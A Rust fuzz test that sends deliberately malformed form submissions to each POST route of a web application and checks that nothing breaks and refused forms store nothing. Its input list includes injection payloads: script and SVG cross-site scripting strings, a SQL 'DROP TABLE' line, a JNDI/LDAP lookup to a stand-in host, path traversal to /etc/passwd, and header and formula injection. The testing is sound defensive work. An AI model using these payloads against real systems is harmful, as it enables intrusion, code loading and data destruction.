//! Forms that can be read and make no sense: fields that are empty, absent, twice there, far too long, or hold what somebody
//! hopes that we will run. A small generator with a fixed beginning mixes them, so that a failure comes back.

use super::{
    dice::{Dice, trace},
    sound::must_be_sound,
    table::paths,
    valid::{self, Fields},
    world::{Actor, World, send},
};

fn absurd(world: &World) -> Vec<String> {
    let mut values: Vec<String> = [
        "",
        " ",
        "\0",
        "a\0b",
        "\u{fffd}",
        "\u{202e}netsrok",
        "\u{200b}",
        "\r\nSet-Cookie: x=1",
        "\t\t",
        "\u{1f3f3}\u{fe0f}",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</textarea><svg onload=alert(1)>",
        "javascript:alert(1)",
        "'; DROP TABLE events; --",
        "{{7*7}}",
        "${jndi:ldap://elders.example}",
        "../../../etc/passwd",
        "%00",
        "%s%n%x",
        "=1+1",
        "@SUM(A1)",
        "#eval(read(\"/etc/passwd\"))",
        "-1",
        "0",
        "1",
        "255",
        "256",
        "65535",
        "65536",
        "4294967296",
        "1e309",
        "NaN",
        "1.5",
        "+3",
        "٣",
        "true",
        "null",
        "[]",
        "2026-02-30",
        "0000-00-00",
        "9999-12-31",
        "99999-01-01",
        "-0001-01-01",
        "2200-12-31",
        "1900-01-01",
        "2026-13",
        "2026-00",
        "guest",
        "administrator",
        "facilitator",
        "follow",
        "map",
        "en",
        "xx",
        "@",
        "a@b",
        "iemand@elders.example",
        "//elders.example",
    ]
    .map(str::to_owned)
    .into();
    values.extend([
        "a".repeat(5000),
        "é".repeat(20_000),
        "a\u{301}".repeat(3000),
        "woord ".repeat(8000),
        "\n".repeat(3000),
        "((((".repeat(2000),
        world.own.id.clone(),
        world.own.card.clone(),
        world.next.card.clone(),
        world.other.card.clone(),
        world.own.session.clone(),
    ]);
    values
}

/// The form of a route with something wrong in it.
fn spoiled(dice: &mut Dice, absurd: &[String], mut fields: Fields) -> Fields {
    let value = absurd[dice.below(absurd.len())].clone();
    let at = dice.below(fields.len());
    let name = fields[at].0;
    match dice.below(8) {
        0 => fields.clear(),
        1 => drop(fields.remove(at)),
        2 => fields.insert(0, (name, value)),
        3 => fields.push((name, value)),
        4 => fields.iter_mut().for_each(|field| field.1 = absurd[dice.below(absurd.len())].clone()),
        5 => fields.extend((0..500).map(|_| (name, value.chars().take(100).collect()))),
        _ => fields[at].1 = value,
    }
    fields
}

/// How many spoiled forms each route gets from each person.
const EACH: usize = 12;

#[tokio::test]
async fn a_form_without_sense_breaks_nothing_and_a_refused_one_stores_nothing() {
    let (world, mut dice) = (World::build().await, Dice(0x5eed));
    let absurd = absurd(&world);
    for path in paths("POST") {
        let apart = world.copy().await;
        for first in valid::before(path) {
            apart.does(valid::first(first), &apart.own, first).await;
        }
        let mut before = trace(&apart).await;
        for actor in [Actor::Leader, Actor::Guest, Actor::Administrator] {
            for _ in 0..EACH {
                let fields = spoiled(&mut dice, &absurd, valid::fields(&apart.own, path));
                let address = valid::address(&apart, &apart.own, path);
                let answer = send(&mut apart.browser(actor), "POST", &address, &fields).await;
                let what = format!("POST {path} by {actor:?} with {:.400}", format!("{fields:?}"));
                must_be_sound(&what, path, &answer);
                let after = trace(&apart).await;
                assert!(answer.status < 400 || before == after, "{what}: {} and yet stored", answer.status);
                before = after;
            }
        }
        // What was taken in can be shown.
        for page in [
            "map",
            "board",
            "wall",
            "choice",
            "report",
            "exports/report.json",
            "exports/oppositions.csv",
            "history",
            "strategy",
            "actions",
            "places",
            "phases",
            "online",
            "unrest",
            "advice",
            "blind-spots",
            "network",
            "thread",
            "appraisals",
            &format!("appraisals/{}", apart.own.appraisal),
            "analysis",
            "analysis/manifestations",
            "deployments",
            "interventions",
        ] {
            let answer = apart.browser(Actor::Leader).see(&format!("/dossiers/{}/{page}", apart.own.id)).await;
            must_be_sound(&format!("{page} after {path}"), "", &answer);
        }
    }
}
